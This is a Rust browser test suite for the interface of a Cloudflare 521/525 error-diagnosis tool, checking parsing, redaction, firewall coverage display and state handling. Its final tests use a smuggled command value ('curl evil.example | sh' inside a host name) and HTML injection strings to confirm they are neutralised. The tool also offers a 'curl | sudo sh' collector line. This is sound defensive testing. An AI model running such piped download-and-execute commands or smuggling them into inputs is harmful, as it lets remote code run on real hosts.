//! Components in a real browser (headless Chromium via wasm-bindgen-test).
#![cfg(target_arch = "wasm32")]

use err521::ui::components::app::{Analyzer, App, Props};
use wasm_bindgen::JsCast;
use wasm_bindgen_test::*;
use web_sys::{Event, EventInit, HtmlTextAreaElement};

wasm_bindgen_test_configure!(run_in_browser);

const PAGE_521: &str = include_str!("fixtures/error-page/visible-text-521.txt");
const PAGE_525: &str = include_str!("fixtures/error-page/modern-525-api.html");

/// A fresh root; earlier tests' roots leave the document, so ids like
/// `#paste` are unique as on the real page.
fn new_root() -> web_sys::Element {
    let document = web_sys::window()
        .and_then(|w| w.document())
        .expect("a browser document");
    if let Ok(old) = document.query_selector_all(".test-root") {
        for i in 0..old.length() {
            if let Some(n) = old
                .item(i)
                .and_then(|n| n.dyn_into::<web_sys::Element>().ok())
            {
                n.remove();
            }
        }
    }
    let root = document.create_element("div").expect("a div");
    root.set_class_name("test-root");
    document
        .body()
        .expect("a body")
        .append_child(&root)
        .expect("append");
    root
}

async fn mount() -> web_sys::Element {
    // Each app keeps its case in the tab's sessionStorage and restores it
    // at start: a test starts from an empty tab.
    if let Some(storage) = web_sys::window().and_then(|w| w.session_storage().ok().flatten()) {
        let _ = storage.clear();
    }
    let root = new_root();
    // The engine runs on the spot here: the built worker files do not exist
    // in a component test.
    let props = Props {
        analyzer: Analyzer(Some(err521::ui::protocol::handle)),
    };
    yew::Renderer::<App>::with_root_and_props(root.clone(), props).render();
    yew::scheduler::flush().await;
    root
}

async fn type_into_paste(root: &web_sys::Element, text: &str) {
    let area: HtmlTextAreaElement = root
        .query_selector("#paste")
        .ok()
        .flatten()
        .unwrap_or_else(|| panic!("the paste area in {}", root.inner_html()))
        .dyn_into()
        .expect("a textarea");
    area.set_value(text);
    let init = EventInit::new();
    init.set_bubbles(true);
    let event = Event::new_with_event_init_dict("input", &init).expect("an input event");
    area.dispatch_event(&event).expect("dispatch");
    yew::scheduler::flush().await;
}

fn text_of(root: &web_sys::Element, selector: &str) -> String {
    root.query_selector(selector)
        .ok()
        .flatten()
        .and_then(|e| e.text_content())
        .unwrap_or_default()
}

#[wasm_bindgen_test]
async fn pasted_521_text_shows_code_ray_id_and_failing_host() {
    let root = mount().await;
    type_into_paste(&root, PAGE_521).await;
    let code = root
        .query_selector("[data-error-code]")
        .ok()
        .flatten()
        .and_then(|e| e.get_attribute("data-error-code"));
    assert_eq!(code.as_deref(), Some("521"));
    let summary = text_of(&root, ".error-summary");
    assert!(summary.contains("8e3c77d1a9f20b44"), "{summary}");
    assert!(summary.contains("www.example-store.com"), "{summary}");
    assert!(summary.contains("Host (your origin)"), "{summary}");
    assert!(root
        .query_selector("[data-primary=\"true\"]")
        .ok()
        .flatten()
        .is_none());
}

#[wasm_bindgen_test]
async fn pasted_525_page_is_a_different_error_code() {
    let root = mount().await;
    type_into_paste(&root, PAGE_525).await;
    let primary = root
        .query_selector("[data-primary=\"true\"]")
        .ok()
        .flatten()
        .expect("a primary finding");
    assert_eq!(
        primary.get_attribute("data-finding-id").as_deref(),
        Some("different-error-code")
    );
    assert!(primary.text_content().unwrap_or_default().contains("525"));
}

fn find(root: &web_sys::Element, selector: &str) -> web_sys::Element {
    root.query_selector(selector)
        .ok()
        .flatten()
        .unwrap_or_else(|| panic!("{selector} in {}", root.inner_html()))
}

fn fire(el: &web_sys::Element, kind: &str) {
    let init = EventInit::new();
    init.set_bubbles(true);
    let event = Event::new_with_event_init_dict(kind, &init).expect("an event");
    el.dispatch_event(&event).expect("dispatch");
}

async fn mount_with<C: yew::BaseComponent>(props: C::Properties) -> web_sys::Element {
    let root = new_root();
    yew::Renderer::<C>::with_root_and_props(root.clone(), props).render();
    yew::scheduler::flush().await;
    root
}

const TICKET: &str = "Site is down since the update.\n\n\
root@web1:~# systemctl status nginx\n\
× nginx.service - A high performance web server and a reverse proxy server\n\
     Loaded: loaded (/lib/systemd/system/nginx.service; enabled; preset: enabled)\n\
     Active: failed (Result: exit-code) since Tue 2026-11-24 07:41:02 UTC; 14min ago\n\n";

#[wasm_bindgen_test]
async fn blocks_appear_as_chips_and_a_kind_can_be_corrected() {
    let root = mount().await;
    type_into_paste(&root, &format!("{PAGE_521}\n{TICKET}")).await;
    let chips = root.query_selector_all(".chip[data-kind]").expect("chips");
    assert!(chips.length() >= 2, "{}", root.inner_html());
    let page_chip = find(&root, ".chip[data-kind=\"error-page\"]");
    let first = page_chip
        .get_attribute("data-first-line")
        .unwrap_or_default();
    assert!(page_chip
        .text_content()
        .unwrap_or_default()
        .contains("lines "));
    // Correct it by hand: the chip says so and keeps its place.
    let select: web_sys::HtmlSelectElement = page_chip
        .query_selector("select")
        .ok()
        .flatten()
        .expect("a kind menu")
        .dyn_into()
        .expect("a select");
    select.set_value("logs");
    fire(&select, "change");
    yew::scheduler::flush().await;
    let corrected = find(&root, &format!(".chip[data-first-line=\"{first}\"]"));
    assert_eq!(
        corrected.get_attribute("data-kind").as_deref(),
        Some("logs")
    );
    assert_eq!(
        corrected.get_attribute("data-detected-kind").as_deref(),
        Some("error-page")
    );
    assert!(corrected.class_name().contains("corrected"));
    // Back to the detected kind: the correction is gone.
    select.set_value("error-page");
    fire(&select, "change");
    yew::scheduler::flush().await;
    let chip = find(&root, &format!(".chip[data-first-line=\"{first}\"]"));
    assert!(!chip.class_name().contains("corrected"));
}

#[wasm_bindgen_test]
async fn clicking_evidence_selects_that_line_in_the_paste() {
    let root = mount().await;
    let text = format!("first line\nsecond line é\n{PAGE_525}");
    type_into_paste(&root, &text).await;
    let ev = find(&root, ".ev-line[data-line]");
    let line: usize = ev
        .get_attribute("data-line")
        .and_then(|l| l.parse().ok())
        .expect("a line number");
    ev.dyn_ref::<web_sys::HtmlElement>()
        .expect("a button")
        .click();
    yew::scheduler::flush().await;
    let area: HtmlTextAreaElement = find(&root, "#paste").dyn_into().expect("a textarea");
    let start = area.selection_start().ok().flatten().unwrap_or(0) as usize;
    let end = area.selection_end().ok().flatten().unwrap_or(0) as usize;
    let value: Vec<u16> = area.value().encode_utf16().collect();
    let selected = String::from_utf16_lossy(value.get(start..end).unwrap_or(&[]));
    let expected = text.lines().nth(line - 1).unwrap_or_default();
    assert_eq!(selected, expected);
    assert!(!selected.is_empty());
}

#[wasm_bindgen_test]
async fn redaction_switch_masks_hosts_in_the_report() {
    let root = mount().await;
    type_into_paste(&root, PAGE_521).await;
    assert!(text_of(&root, ".error-summary").contains("www.example-store.com"));
    let switch: web_sys::HtmlInputElement = find(&root, "#redact").dyn_into().expect("a checkbox");
    switch.set_checked(true);
    fire(&switch, "change");
    yew::scheduler::flush().await;
    let summary = text_of(&root, ".error-summary");
    assert!(!summary.contains("example-store"), "{summary}");
    assert!(summary.contains("host-1.example"), "{summary}");
    // The Ray ID keeps its shape, the code is still read.
    assert!(summary.contains("00c0ffee00000001"), "{summary}");
    let markdown = text_of(&root, ".md-preview");
    assert!(!markdown.contains("example-store"), "{markdown}");
    // The paste itself is untouched.
    let area: HtmlTextAreaElement = find(&root, "#paste").dyn_into().expect("a textarea");
    assert!(area.value().contains("www.example-store.com"));
}

#[wasm_bindgen_test]
async fn new_report_fields_appear_without_page_changes() {
    use err521::ui::components::finding::{FindingCard, Props as CardProps};
    let report = err521::analyze(
        &[err521::parse::CaseInput::new("paste", PAGE_525)],
        &err521::options::Options::default(),
    );
    let finding = report.findings.first().cloned().expect("a finding");
    let mut value = serde_json::to_value(&finding).expect("json");
    if let Some(o) = value.as_object_mut() {
        o.insert(
            "risk_note".into(),
            serde_json::json!({"level": "high", "why": "<b>not markup</b>"}),
        );
    }
    let root = mount_with::<FindingCard>(CardProps {
        finding,
        value: std::rc::Rc::new(value),
        primary: true,
    })
    .await;
    let text = root.text_content().unwrap_or_default();
    assert!(
        text.contains("risk_note") && text.contains("high"),
        "{text}"
    );
    assert!(text.contains("<b>not markup</b>"), "shown as text: {text}");
    assert!(root.query_selector("b").ok().flatten().is_none());
    let link = find(&root, ".more-link a");
    assert_eq!(
        link.get_attribute("href").as_deref(),
        Some("#/finding/different-error-code")
    );
}

#[wasm_bindgen_test]
async fn coverage_grid_colours_cells_and_splits_partial_ranges() {
    use err521::ui::components::coverage::{CoverageMap, Props as CovProps};
    let rule = serde_json::json!({"input": "paste", "line": 9, "text": "443/tcp ALLOW IN 173.245.48.0/20"});
    let value = serde_json::json!({"families": ["ipv4"], "coverage": [
        {"layer": "ufw", "cloudflare_range": "173.245.48.0/20", "range": "173.245.48.0/20", "port": 443,
         "outcome": "accept", "reject_with": null, "rule": rule, "policy": "reject", "reason": null},
        {"layer": "ufw", "cloudflare_range": "173.245.48.0/20", "range": "173.245.48.0/20", "port": 80,
         "outcome": "reject", "reject_with": "icmp-port-unreachable", "rule": null, "policy": "reject", "reason": "default policy"},
        {"layer": "ufw", "cloudflare_range": "104.16.0.0/13", "range": "104.16.0.0/14", "port": 443,
         "outcome": "accept", "reject_with": null, "rule": null, "policy": "reject", "reason": null},
        {"layer": "ufw", "cloudflare_range": "104.16.0.0/13", "range": "104.20.0.0/14", "port": 443,
         "outcome": "drop", "reject_with": null, "rule": null, "policy": "drop", "reason": null},
        {"layer": "ufw", "cloudflare_range": "104.16.0.0/13", "range": "104.16.0.0/13", "port": 80,
         "outcome": "unknown", "reject_with": null, "rule": null, "policy": null, "reason": null}
    ]});
    let coverage: err521::diagnose::FirewallCoverage =
        serde_json::from_value(value).expect("typed coverage");
    let root = mount_with::<CoverageMap>(CovProps {
        coverage: std::rc::Rc::new(coverage),
    })
    .await;
    let segs = root.query_selector_all(".cov-seg").expect("cells");
    assert_eq!(segs.length(), 5, "{}", root.inner_html());
    let accepted = find(&root, ".cov-seg.out-accept[data-port=\"443\"]");
    let tip = accepted.get_attribute("title").unwrap_or_default();
    assert!(
        tip.contains("paste line 9") && tip.contains("443/tcp ALLOW IN"),
        "{tip}"
    );
    assert_eq!(accepted.get_attribute("aria-label"), Some(tip));
    assert_eq!(accepted.tag_name(), "BUTTON", "focusable by keyboard");
    assert_eq!(
        root.query_selector_all("td.split")
            .map(|l| l.length())
            .unwrap_or(0),
        1
    );
    let split = find(&root, "td.split");
    assert!(split
        .text_content()
        .unwrap_or_default()
        .contains("104.20.0.0/14"));
    assert!(find(&root, ".cov-seg.out-reject")
        .get_attribute("title")
        .unwrap_or_default()
        .contains("icmp-port-unreachable"));
}

#[wasm_bindgen_test]
async fn every_finding_id_has_a_page_and_an_index_entry() {
    use err521::diagnose::catalog::ALL;
    use err521::ui::components::finding_index::FindingIndex;
    use err521::ui::components::finding_page::{FindingPage, Props as PageProps};
    let index = mount_with::<FindingIndex>(()).await;
    for id in ALL {
        let entry = find(&index, &format!("[data-index-id=\"{}\"] a", id.as_str()));
        assert_eq!(
            entry.get_attribute("href"),
            Some(format!("#/finding/{}", id.as_str()))
        );
        let page = mount_with::<FindingPage>(PageProps { id }).await;
        let text = page.text_content().unwrap_or_default();
        let p = id.page();
        assert!(
            text.contains(p.title) && text.contains(p.meaning) && text.contains(p.fix),
            "{}",
            id.as_str()
        );
        assert!(find(&page, "pre")
            .text_content()
            .unwrap_or_default()
            .contains(p.bad_example.lines().next().unwrap_or_default()));
        assert!(
            page.query_selector(&format!("[data-example=\"{}\"]", id.as_str()))
                .ok()
                .flatten()
                .is_some(),
            "an example for {}",
            id.as_str()
        );
    }
}

fn paste(text: &str) -> err521::ui::state::Action {
    err521::ui::state::Action::SetPaste {
        text: std::rc::Rc::from(text),
        typed: false,
    }
}

fn answer_to(s: &err521::ui::state::State) -> err521::ui::state::Action {
    use err521::ui::protocol::{handle, Job};
    let request = s.inputs.request(s.version, Job::Analyze);
    err521::ui::state::Action::Answer(handle(&serde_json::to_string(&request).unwrap_or_default()))
}

#[wasm_bindgen_test]
fn reducer_drops_stale_answers_and_share_payloads_round_trip() {
    use err521::ui::protocol::{handle, share_payload, Job};
    use err521::ui::state::{Action, State};
    use std::rc::Rc;
    use yew::Reducible;
    let s = Rc::new(State::default());
    let s = s.reduce(paste(PAGE_521));
    let old = s.inputs.request(s.version, Job::Analyze);
    let s = s.reduce(paste(PAGE_525));
    let new = s.inputs.request(s.version, Job::Analyze);
    assert!(new.id > old.id);
    let answer =
        |r: &err521::ui::protocol::Request| handle(&serde_json::to_string(r).unwrap_or_default());
    // The newer answer lands first; the older one must not replace it.
    let s = s.reduce(Action::Answer(answer(&new)));
    let s = s.reduce(Action::Answer(answer(&old)));
    let code = s
        .report
        .as_ref()
        .and_then(|r| r.error_page.as_ref())
        .and_then(|p| p.code);
    assert_eq!(code, Some(525));
    assert!(!s.busy());
    // Share: inputs, mode, ports and corrections survive the fragment,
    // built by the worker's side of the protocol.
    let s = s.reduce(Action::SetSslMode(err521::options::SslMode::Strict));
    let s = s.reduce(Action::SetPorts("8443, 2053".into()));
    let request = s.inputs.request(s.version, Job::Share);
    let link = handle(&serde_json::to_string(&request).unwrap_or_default());
    let code = link
        .strip_prefix(&format!("{} share\n", s.version))
        .expect("a share answer");
    assert_eq!(err521::share::decode(code), Ok(share_payload(&request)));
    let back = err521::share::decode(code).expect("decodes");
    let restored = Rc::new(State::default()).reduce(Action::LoadShare(back));
    assert_eq!(restored.inputs.named(), s.inputs.named());
    assert_eq!(restored.inputs.ssl_mode, s.inputs.ssl_mode);
    assert_eq!(restored.inputs.extra_ports, vec![2053, 8443]);
}

#[wasm_bindgen_test]
fn the_version_follows_the_inputs_and_nothing_else() {
    use err521::ui::state::{Action, Route, State};
    use std::rc::Rc;
    use yew::Reducible;
    let s = Rc::new(State::default()).reduce(paste(PAGE_521));
    let v = s.version;
    // Page-only changes never ask for an analysis.
    let s = s
        .reduce(Action::Navigate(Route::Help))
        .reduce(Action::ToggleExtras(true))
        .reduce(Action::Notice(Some("Copied".into())))
        .reduce(Action::ShowAll)
        .reduce(Action::SetPorts("no port here".into()))
        .reduce(Action::Navigate(Route::Home));
    assert_eq!(s.version, v);
    // The same text again, or the ports written otherwise, is no change.
    let s = s
        .reduce(paste(PAGE_521))
        .reduce(Action::SetPorts("8443".into()));
    assert_eq!(s.version, v + 1);
    let s = s.reduce(Action::SetPorts("8443 ".into()));
    assert_eq!(s.version, v + 1);
    // Every input counts: mode, redaction, a labelled box.
    let s = s.reduce(Action::SetSslMode(err521::options::SslMode::Full));
    let s = s.reduce(Action::SetRedacted(true));
    let s = s.reduce(Action::SetExtra {
        slot: 1,
        text: Rc::from("Status: active"),
        typed: true,
    });
    assert_eq!(s.version, v + 4);
    assert!(s.view.typing, "typing waits for a pause");
    assert!(
        !s.reduce(paste(PAGE_525)).view.typing,
        "a paste is analysed at once"
    );
}

#[wasm_bindgen_test]
fn a_correction_goes_with_its_block() {
    use err521::parse::kind::{fingerprint, BlockKind};
    use err521::ui::state::{Action, State};
    use std::rc::Rc;
    use yew::Reducible;
    let list =
        "162.158.88.14 # lfd: (nginx) blocked - Tue Nov 24 10:11:12 2026\n172.70.135.9 # manual\n";
    let s = Rc::new(State::default()).reduce(paste(list));
    let s = s.clone().reduce(answer_to(&s));
    let block = fingerprint(&err521::text::lines(list), 1, 2);
    let s = s.reduce(Action::SetOverride {
        input: "paste".into(),
        first_line: 1,
        block,
        kind: Some(BlockKind::Ipset),
    });
    let s = s.clone().reduce(answer_to(&s));
    assert_eq!(s.inputs.overrides.len(), 1);
    let first = s
        .report
        .as_ref()
        .and_then(|r| r.inputs.first().cloned())
        .expect("a block");
    assert_eq!(first.kind, BlockKind::Ipset);
    // A different paste: its first block is read as what it is, and once
    // its report is in, the correction of the block that went is gone.
    let s = s.reduce(paste(
        "-P INPUT DROP\n-A INPUT -p tcp -m tcp --dport 22 -j ACCEPT\n",
    ));
    let s = s.clone().reduce(answer_to(&s));
    let first = s
        .report
        .as_ref()
        .and_then(|r| r.inputs.first().cloned())
        .expect("a block");
    assert_eq!(
        (first.kind, first.detected_kind),
        (BlockKind::Iptables, None)
    );
    assert!(s.inputs.overrides.is_empty());
    assert!(!s.busy(), "dropping it needs no new analysis");
    // The first paste again: detected afresh, not corrected.
    let s = s.reduce(paste(list));
    let s = s.clone().reduce(answer_to(&s));
    let first = s
        .report
        .as_ref()
        .and_then(|r| r.inputs.first().cloned())
        .expect("a block");
    assert_ne!(first.kind, BlockKind::Ipset);
}

#[wasm_bindgen_test]
fn an_unreadable_request_gets_an_answer_the_page_shows() {
    use err521::ui::protocol::handle;
    use err521::ui::state::{Action, State};
    use std::rc::Rc;
    use yew::Reducible;
    let s = Rc::new(State::default()).reduce(paste(PAGE_521));
    for request in ["not json", "{\"id\": 7, \"inputs\": 3}"] {
        let shown = s.clone().reduce(Action::Answer(handle(request)));
        let error = shown.view.engine_error.clone().unwrap_or_default();
        assert!(error.contains("could not read"), "{request}: {error:?}");
    }
}

#[wasm_bindgen_test]
fn line_spans_count_utf16_and_all_line_ends() {
    use err521::ui::browser::utf16_line_span;
    let text = "a\r\nbé😀\rc\nd";
    assert_eq!(utf16_line_span(text, 1, 1), (0, 1, 4));
    assert_eq!(utf16_line_span(text, 2, 2), (3, 7, 4));
    assert_eq!(utf16_line_span(text, 3, 4), (8, 11, 4));
    assert_eq!(utf16_line_span(text, 9, 9), (11, 11, 4));
}

#[wasm_bindgen_test]
fn loops_heredocs_and_continuations_are_one_command() {
    use err521::ui::components::command_list::group_commands;
    let lines: Vec<String> = [
        "for net in 173.245.48.0/20 2400:cb00::/32; do",
        "  sudo ufw prepend allow proto tcp from \"$net\" to any port 443",
        "done",
        "sudo tee /etc/x >/dev/null <<'EOF'\nline\nEOF",
        "sudo ufw reload",
        "curl -sv \\",
        "  https://example.com/",
        "if true; then",
        "  echo ok",
        "fi",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    let groups = group_commands(&lines);
    assert_eq!(groups.len(), 5, "{groups:?}");
    assert!(groups[0].starts_with("for net") && groups[0].ends_with("done"));
    assert_eq!(groups[2], "sudo ufw reload");
    assert!(groups[3].ends_with("https://example.com/"));
    assert!(groups[4].ends_with("fi"));
}

const COLLECTED: &str = include_str!("fixtures/collector/debian-vm-no-systemd.txt");

/// The folder the test page is served from (`http://host:port/dir/`).
fn page_folder() -> String {
    let href = web_sys::window()
        .and_then(|w| w.location().href().ok())
        .unwrap_or_default();
    let path_end = href.find(['?', '#']).unwrap_or(href.len());
    let page = href.get(..path_end).unwrap_or(&href);
    page.get(..page.rfind('/').map_or(0, |i| i + 1))
        .unwrap_or_default()
        .to_string()
}

#[wasm_bindgen_test]
async fn undecided_the_page_offers_collect_sh_from_its_folder_with_the_host() {
    let root = mount().await;
    // Before anything is pasted: no host to name.
    let before = text_of(&root, "[data-collect-offer] [data-collect-command]");
    assert_eq!(
        before,
        format!("curl -fsS {}collect.sh | sudo sh", page_folder())
    );
    type_into_paste(&root, PAGE_521).await;
    let command = text_of(&root, ".report [data-collect-offer] [data-collect-command]");
    assert_eq!(
        command,
        format!(
            "curl -fsS {}collect.sh | sudo sh -s -- --host www.example-store.com",
            page_folder()
        )
    );
    // A decided case does not offer it; a collected one says who gathered it.
    type_into_paste(&root, COLLECTED).await;
    assert!(root
        .query_selector("[data-collect-offer]")
        .ok()
        .flatten()
        .is_none());
    assert_eq!(
        text_of(&root, ".collected-by"),
        "Collected by collect.sh v1, 2026-12-08 00:01:38 UTC, on host vm"
    );
}

#[wasm_bindgen_test]
async fn a_hostile_host_never_reaches_the_command_or_the_markup() {
    use err521::collector::CollectorRun;
    use err521::ui::components::collect_offer::{CollectOffer, Props as OfferProps};
    use err521::ui::components::collected_by::{CollectedBy, Props as ByProps};
    let root = mount_with::<CollectOffer>(OfferProps {
        host: Some("www.shop.io; curl evil.example | sh".into()),
    })
    .await;
    let command = text_of(&root, "[data-collect-command]");
    assert!(command.ends_with("/collect.sh | sudo sh"), "{command}");
    let root = mount_with::<CollectedBy>(ByProps {
        run: CollectorRun {
            input: "paste".into(),
            line: 1,
            version: 1,
            date: "<i>now</i>".into(),
            host: Some("<b>web1</b>".into()),
            site: None,
            root: false,
            absent: vec!["csf".into(), "<img src=x>".into()],
        },
    })
    .await;
    let text = root.text_content().unwrap_or_default();
    assert!(text.contains("on host <b>web1</b>"), "{text}");
    assert!(text.contains("without root"), "{text}");
    assert!(text.contains("csf, <img src=x>"), "{text}");
    assert!(root.query_selector("b, i, img").ok().flatten().is_none());
}
